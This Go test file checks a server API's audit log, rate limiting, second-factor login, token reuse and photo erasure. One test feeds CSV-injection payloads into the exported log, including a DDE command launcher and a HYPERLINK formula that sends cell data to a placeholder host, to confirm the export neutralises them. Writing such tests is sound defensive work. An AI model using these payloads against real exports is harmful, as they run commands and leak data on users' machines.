package api_test

import (
	"crypto/sha256"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"gaugewright/server/api"

	"github.com/pquerna/otp/totp"
)

// eventsOf asks for the event log.
func (p *testPlant) eventsOf(query string) (list []struct{ Kind, By, About, Address, Detail string }) {
	p.t.Helper()
	var reply struct {
		Events []struct{ Kind, By, About, Address, Detail string }
	}
	a := p.do("administrator", "GET", "/api/events"+query, "")
	if err := json.Unmarshal(a.body, &reply); err != nil || a.status != 200 {
		p.t.Fatalf("%d %s %v", a.status, a.body, err)
	}
	return reply.Events
}

// noted holds that the event log has something that somebody did, about somebody or something.
func (p *testPlant) noted(kind, by, about, detail string) {
	p.t.Helper()
	for _, e := range p.eventsOf("") {
		if e.Kind == kind && e.By == by && e.About == about && strings.Contains(e.Detail, detail) {
			return
		}
	}
	p.t.Errorf("the log has no %s of %q about %q: %q", kind, by, about, detail)
}

// TestWhatIsDoneIsNoted does everything that the log is for, and finds it there, with who did it,
// to whom, and no secret.
func TestWhatIsDoneIsNoted(t *testing.T) {
	p := newPlant(t)
	tech := "/api/users/" + id("technician")
	wrong := "what I typed by mistake"
	if a := p.do("technician", "POST", "/api/sync", push(made("c1", id("technician"), "visit", "approval"))); a.status != 200 {
		t.Fatal(a.status)
	}
	var code struct{ Code string }
	steps := []struct {
		who, method, path, body string
		status                  int
		kind, by, about         string
	}{
		{
			"", "POST", "/api/login", `{"name":"technician","password":"` + wrong + `"}`, 401,
			"login_refused", "", "technician",
		},
		{"", "POST", "/api/login", `{"name":"` + wrong + `","password":"x"}`, 401, "login_refused", "", ""},
		{"", "POST", "/api/login", `{"name":"technician","password":"` + secret + `"}`, 200, "login", "technician", ""},
		{
			"administrator", "POST", "/api/users", `{"name":"new","role":"technician"}`, 200,
			"account_added", "administrator", "new",
		},
		{"administrator", "PUT", tech + "/sites", `{"sites":[]}`, 204, "sites", "administrator", "technician"},
		{
			"administrator", "PUT", "/api/office/letterhead",
			`{"name":"Lab","address":["here"],"customer":["them"]}`, 200, "letterhead", "administrator",
			"",
		},
		{"administrator", "POST", "/api/backup", "", 200, "backup", "administrator", ""},
		{
			"reviewer", "POST", "/api/office/quarantine/1/reject", `{"reason":"made\nup"}`, 204,
			"quarantine_rejected", "reviewer", "technician",
		},
		{
			"reviewer", "POST", "/api/account/password",
			`{"old":"` + secret + `","new":"another long secret"}`, 204, "password_changed", "reviewer",
			"reviewer",
		},
		{"administrator", "POST", tech + "/invite", "", 200, "invited", "administrator", "technician"},
		{
			"administrator", "POST", tech + "/password", `{"password":"another long secret"}`, 204,
			"password_set", "administrator", "technician",
		},
		{"administrator", "PUT", tech + "/role", `{"role":"reviewer"}`, 204, "role", "administrator", "technician"},
		{"administrator", "POST", tech + "/revoke", "", 204, "revoked", "administrator", "technician"},
		{"administrator", "POST", tech + "/restore", "", 204, "restored", "administrator", "technician"},
		{"administrator", "DELETE", tech + "/logins", "", 204, "logins_ended", "administrator", "technician"},
	}
	for _, s := range steps {
		a := p.do(s.who, s.method, s.path, s.body)
		if a.status != s.status {
			t.Fatalf("%s %s: %d %s", s.method, s.path, a.status, a.body)
		}
		if s.kind == "invited" {
			if err := json.Unmarshal(a.body, &code); err != nil || len(code.Code) < 26 {
				t.Fatalf("%s", a.body)
			}
		}
		got := p.eventsOf("")[0]
		if got.Kind != s.kind || got.By != s.by || got.About != s.about || got.Address == "" ||
			strings.Contains(got.Detail, "\n") {
			t.Errorf("%s %s: noted %+v", s.method, s.path, got)
		}
	}
	a := p.do("administrator", "GET", "/api/events.csv", "")
	for _, no := range []string{secret, wrong, code.Code, "another long secret", p.tokens["administrator"], p.cookies["administrator"].Value} {
		if strings.Contains(string(a.body), no) {
			t.Errorf("the log holds %q", no)
		}
	}
	rows, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
	if err != nil || len(rows) != 1+len(steps)+3 || a.header.Get("Content-Type") != "text/csv; charset=utf-8" { // and three log-ins at the start
		t.Errorf("%d rows, %v, %v", len(rows), err, a.header)
	}
	for _, who := range []string{"", "technician", "reviewer"} {
		for _, path := range []string{"/api/events", "/api/events.csv"} {
			if a := p.do(who, "GET", path, ""); a.status != 401 && a.status != 403 {
				t.Errorf("%s reads %s: %d", who, path, a.status)
			}
		}
	}
	if a := p.do("administrator", "GET", "/api/events?before=x", ""); a.status != 400 {
		t.Errorf("%d", a.status)
	}
	if list := p.eventsOf("?before=4"); len(list) != 3 || list[0].Kind != "login" {
		t.Errorf("%+v", list)
	}
}

// TestRefusedRightsAreNoted: OWASP ASVS 5.0, 16.3.2. A user who keeps asking for what they may not
// have adds one line per hour and route, and never what they typed.
func TestRefusedRightsAreNoted(t *testing.T) {
	p := newPlant(t)
	was := len(p.eventsOf(""))
	ask := func(who, path string) {
		t.Helper()
		if a := p.do(who, "GET", path, ""); a.status != 403 {
			t.Fatalf("%s %s: %d", who, path, a.status)
		}
	}
	for range 3 {
		ask("technician", "/api/events")
		ask("technician", "/api/office/visits/a-secret-typed-here")
		ask("reviewer", "/api/events")
	}
	list := p.eventsOf("")
	if len(list) != was+3 {
		t.Fatalf("%d entries of three refusals: %+v", len(list)-was, list)
	}
	for i, want := range []struct{ by, route string }{
		{"reviewer", "GET /api/events"}, {"technician", "GET /api/office/visits/:id"}, {"technician", "GET /api/events"},
	} {
		if e := list[i]; e.Kind != "right_refused" || e.By != want.by || e.Detail != want.route || e.Address == "" {
			t.Errorf("noted %+v, want %+v", e, want)
		}
	}
	p.now = p.now.Add(time.Hour)
	for _, who := range []string{"technician", "administrator"} {
		a := p.do("", "POST", "/api/login", fmt.Sprintf(`{"name":%q,"password":%q}`, who, secret))
		var in struct{ Access string }
		if err := json.Unmarshal(a.body, &in); err != nil {
			t.Fatalf("%d %s", a.status, a.body)
		}
		p.tokens[who] = in.Access
		was++ // the log-in
	}
	ask("technician", "/api/events")
	if list := p.eventsOf(""); len(list) != was+4 {
		t.Errorf("%d entries after an hour", len(list)-was)
	}
}

// TestTheTableHoldsNoFormula: OWASP, CSV injection: a spreadsheet takes a cell that begins with one
// of these characters for a formula.
func TestTheTableHoldsNoFormula(t *testing.T) {
	p := newPlant(t)
	for _, name := range []string{"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)", `=HYPERLINK("http://e/"&A1,"PI-1")`} {
		if a := p.do("administrator", "PUT", "/api/office/letterhead", fmt.Sprintf(`{"name":%q,"address":["here"],"customer":["them"]}`, name)); a.status != 200 {
			t.Fatalf("%d %s", a.status, a.body)
		}
		a := p.do("administrator", "GET", "/api/events.csv", "")
		rows, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
		if err != nil || rows[1][6] != "'"+name {
			t.Errorf("%q: %q %v", name, rows[1][6], err)
		}
	}
}

// TestRefusalsDoNotFillTheDisk checks that guessing all day adds only some lines a minute, and that
// the next line counts the rest.
func TestRefusalsDoNotFillTheDisk(t *testing.T) {
	p := newPlant(t)
	guess := func(i int) {
		r := httptest.NewRequest(
			"POST", "/api/login", strings.NewReader(`{"name":"reviewer","password":"a wrong one"}`),
		)
		r.Header.Set("Content-Type", "application/json")
		r.RemoteAddr = fmt.Sprintf("10.0.0.%d:1000", i)
		p.send(r)
	}
	for i := range 100 {
		guess(i)
	}
	if list := p.eventsOf(""); len(list) != 30+3 {
		t.Errorf("%d entries for 100 guesses", len(list))
	}
	p.now = p.now.Add(time.Minute)
	guess(100)
	if got := p.eventsOf("")[0]; !strings.Contains(got.Detail, "70 more were not listed") {
		t.Errorf("%+v", got)
	}
}

// TestInvitedByTheOffice checks that only the invited person knows the password.
func TestInvitedByTheOffice(t *testing.T) {
	p := newPlant(t)
	var made struct {
		ID, Code string
		Invited  bool
	}
	a := p.do("administrator", "POST", "/api/users", `{"name":"Ona","role":"reviewer"}`)
	if err := json.Unmarshal(a.body, &made); err != nil || made.Code == "" || !made.Invited {
		t.Fatalf("%s %v", a.body, err)
	}
	if a := p.do("administrator", "GET", "/api/users", ""); strings.Contains(string(a.body), made.Code) ||
		!strings.Contains(string(a.body), `"invited":true`) {
		t.Errorf("%s", a.body)
	}
	for _, step := range []struct {
		body   string
		status int
		code   string
	}{
		{fmt.Sprintf(`{"name":"Ona","password":%q}`, made.Code), 401, "invited"},
		{fmt.Sprintf(`{"name":"Ona","password":%q,"new":"password123"}`, made.Code), 400, "range"},
		{fmt.Sprintf(`{"name":"Ona","password":%q,"new":%q}`, made.Code, secret), 200, ""},
		{fmt.Sprintf(`{"name":"Ona","password":%q,"new":%q}`, made.Code, "one more of them"), 401, "login"},
		{fmt.Sprintf(`{"name":"Ona","password":%q}`, secret), 200, ""},
	} {
		a := p.do("", "POST", "/api/login", step.body)
		var e struct{ Error struct{ Code string } }
		if err := json.Unmarshal(a.body, &e); err != nil || a.status != step.status || e.Error.Code != step.code {
			t.Errorf("%s: %d %s", step.body, a.status, a.body)
		}
	}
}

// TestSecondFactorOverTheAPI goes from making a second factor to a log-in with it. Where one is
// required, the office is closed to users without it.
func TestSecondFactorOverTheAPI(t *testing.T) {
	p := newPlant(t)
	p.handler = api.New(
		api.Deps{
			Store: p.store, Keeper: p.keeper, Now: p.clock, Client: fstest.MapFS{"index.html": {}}, RequireSecond: true,
		},
	)
	if a := p.do("reviewer", "GET", "/api/office/day", ""); a.status != 403 ||
		!strings.Contains(string(a.body), "second_wanted") {
		t.Errorf("the office without it: %d %s", a.status, a.body)
	}
	if a := p.do("reviewer", "POST", "/api/sync", push()); a.status != 200 {
		t.Errorf("the work on the phone goes on: %d", a.status)
	}
	if a := p.do("reviewer", "POST", "/api/account/second", `{"password":"not it"}`); a.status != 403 ||
		!strings.Contains(string(a.body), `"code":"password"`) {
		t.Errorf("without the password: %d %s", a.status, a.body)
	}
	var begun struct{ Secret, Address, PNG string }
	a := p.do("reviewer", "POST", "/api/account/second", `{"password":"`+secret+`"}`)
	if err := json.Unmarshal(a.body, &begun); err != nil || !strings.HasPrefix(begun.PNG, "iVBOR") {
		t.Fatalf("%d %s %v", a.status, a.body, err)
	}
	code := func() string {
		t.Helper()
		c, err := totp.GenerateCode(begun.Secret, p.now)
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	if a := p.do("reviewer", "POST", "/api/account/second/confirm", `{"code":"123"}`); a.status != 400 {
		t.Errorf("%d %s", a.status, a.body)
	}
	a = p.do("reviewer", "POST", "/api/account/second/confirm", `{"code":"`+code()+`"}`)
	var done struct{ Recovery []string }
	if err := json.Unmarshal(a.body, &done); err != nil || len(done.Recovery) != 10 {
		t.Fatalf("%d %s %v", a.status, a.body, err)
	}
	p.now = p.now.Add(time.Minute)
	enter := func(code string) answer {
		return p.do("", "POST", "/api/login", fmt.Sprintf(`{"name":"reviewer","password":%q,"code":%q}`, secret, code))
	}
	if a := enter(""); a.status != 401 || !strings.Contains(string(a.body), `"code":"second"`) {
		t.Errorf("%d %s", a.status, a.body)
	}
	a = enter(code())
	var in struct{ Access string }
	if err := json.Unmarshal(a.body, &in); err != nil || a.status != 200 {
		t.Fatalf("%d %s", a.status, a.body)
	}
	if a := p.do(in.Access, "GET", "/api/office/day", ""); a.status != 200 {
		t.Errorf("the office with it: %d %s", a.status, a.body)
	}
	for _, who := range []string{"reviewer", "technician"} {
		if a := p.do(who, "DELETE", "/api/users/"+id("reviewer")+"/second", ""); a.status != 403 && a.status != 401 {
			t.Errorf("taken away by %s: %d", who, a.status)
		}
	}
	if a := p.do(in.Access, "POST", "/api/account/second/end", `{"password":"`+secret+`","code":"`+done.Recovery[0]+`"}`); a.status != 204 {
		t.Errorf("%d %s", a.status, a.body)
	}
	if a := enter(""); a.status != 200 {
		t.Errorf("after its end: %d %s", a.status, a.body)
	}
	p.handler = p.open() // where an administrator needs none
	p.noted("second_begun", "reviewer", "reviewer", "")
	p.noted("second_ended", "reviewer", "reviewer", "")
}

// TestRefreshInTwoHands checks that a token that had been replaced ends the log-in, and that the
// log says so.
func TestRefreshInTwoHands(t *testing.T) {
	p := newPlant(t)
	renew := func(c *http.Cookie) answer {
		r := httptest.NewRequest("POST", "/api/refresh", nil)
		r.AddCookie(c)
		return p.send(r)
	}
	first := p.cookies["technician"]
	second := renew(first).cookie
	third := renew(second).cookie
	if a := renew(first); a.status != 401 {
		t.Errorf("%d", a.status)
	}
	if a := renew(third); a.status != 401 {
		t.Errorf("the log-in goes on: %d", a.status)
	}
	if got := p.eventsOf("")[0]; got.Kind != "login_in_two_hands" || got.About != "technician" {
		t.Errorf("%+v", got)
	}
}

// TestTheProxysWordAlone checks that a phone at a private address does not count as a proxy,
// whatever it claims. The header is what a proxy makes of a forged one.
func TestTheProxysWordAlone(t *testing.T) {
	for _, tt := range []struct {
		trusted, from string
		want          int // for the last of many wrong passwords of one phone, each for another name
	}{
		{"127.0.0.1/32", "127.0.0.1", 429}, {"10.0.0.5/32", "10.0.0.5", 429}, {"10.0.0.5/32", "10.0.0.77", 429},
	} {
		p := newPlant(t)
		p.handler = api.New(
			api.Deps{
				Store: p.store, Keeper: p.keeper, Now: p.clock, Client: fstest.MapFS{},
				Proxies: []netip.Prefix{netip.MustParsePrefix(tt.trusted)},
			},
		)
		last := 0
		for i := range 12 {
			r := httptest.NewRequest(
				"POST", "/api/login",
				strings.NewReader(fmt.Sprintf(`{"name":"n%d","password":"wrong"}`, i)),
			)
			r.Header.Set("Content-Type", "application/json")
			r.Header.Set("X-Forwarded-For", fmt.Sprintf("8.8.4.%d, 10.0.0.77", i))
			r.RemoteAddr = tt.from + ":1234"
			last = p.send(r).status
		}
		if last != tt.want {
			t.Errorf("%+v: %d", tt, last)
		}
		list, err := p.store.Events(0, 1)
		if err != nil || list[0].Address != "10.0.0.77" {
			t.Errorf("%+v: noted %+v %v", tt, list, err)
		}
	}
}

// TestRetryAfterIsTheWait also checks that a stranger's wrong passwords do not lock the owner out.
func TestRetryAfterIsTheWait(t *testing.T) {
	p := newPlant(t)
	var a answer
	for range 9 {
		a = p.do("", "POST", "/api/login", `{"name":"administrator","password":"wrong"}`)
		p.now = p.now.Add(time.Second)
	}
	if a.status != 429 || a.header.Get("Retry-After") == "5" {
		t.Errorf("%d, Retry-After %s", a.status, a.header.Get("Retry-After"))
	}
	r := httptest.NewRequest(
		"POST", "/api/login", strings.NewReader(`{"name":"administrator","password":"`+secret+`"}`),
	)
	r.Header.Set("Content-Type", "application/json")
	r.RemoteAddr = "10.1.1.1:99"
	if a := p.send(r); a.status != 200 {
		t.Errorf("from another address: %d %s", a.status, a.body)
	}
}

// TestLeavingClearsTheBrowser checks Clear-Site-Data (W3C; RFC 9110 has no such header). It leaves
// storage alone, which holds unsent work.
func TestLeavingClearsTheBrowser(t *testing.T) {
	p := newPlant(t)
	a := p.do("", "POST", "/api/logout", "")
	if got := a.header.Get("Clear-Site-Data"); got != `"cache"` {
		t.Errorf("Clear-Site-Data %q", got)
	}
	if got := p.do("", "GET", "/", "").header.Get("Cross-Origin-Resource-Policy"); got != "same-origin" {
		t.Errorf("Cross-Origin-Resource-Policy %q", got)
	}
}

// TestAPhotoIsErased checks that only an administrator can, with a reason, and only a photo.
func TestAPhotoIsErased(t *testing.T) {
	p := newPlant(t)
	photo, record := []byte("a face"), []byte("a logger's record")
	name := func(b []byte) string { return fmt.Sprintf("%x", sha256.Sum256(b)) }
	p.put("v1", "visit", "", field{"photo.a", map[string]string{"sha256": name(photo)}}, field{"remark", name(record)})
	for _, b := range [][]byte{photo, record} {
		if a := p.do("technician", "PUT", "/api/blobs/"+name(b), string(b)); a.status != 204 {
			t.Fatalf("%d %s", a.status, a.body)
		}
	}
	erase := func(who string, b []byte, visit, reason string) int {
		r := httptest.NewRequest(
			"DELETE", "/api/blobs/"+name(b),
			strings.NewReader(fmt.Sprintf(`{"visit":%q,"reason":%q}`, visit, reason)),
		)
		r.Header.Set("Content-Type", "application/json")
		r.Header.Set("Authorization", "Bearer "+p.tokens[who])
		return p.send(r).status
	}
	for _, tt := range []struct {
		who           string
		b             []byte
		visit, reason string
		want          int
	}{
		{
			"technician", photo, "v1", "asked for", 403,
		}, {"reviewer", photo, "v1", "asked for", 403}, {"administrator", photo, "v1", " ", 400},
		{
			"administrator", record, "v1", "asked for", 404,
		}, {"administrator", photo, "v2", "asked for", 404}, {"administrator", photo, "v1", "asked for", 204},
	} {
		if got := erase(tt.who, tt.b, tt.visit, tt.reason); got != tt.want {
			t.Errorf("%+v: %d", tt, got)
		}
	}
	if a := p.do("reviewer", "GET", "/api/blobs/"+name(photo), ""); a.status != 410 {
		t.Errorf("%d %s", a.status, a.body)
	}
	if a := p.do("reviewer", "GET", "/api/blobs/"+name(record), ""); a.status != 200 {
		t.Errorf("%d", a.status)
	}
	if got := p.eventsOf("")[0]; got.Kind != "photo_erased" || got.By != "administrator" ||
		got.Detail != "visit v1: asked for" {
		t.Errorf("%+v", got)
	}
}
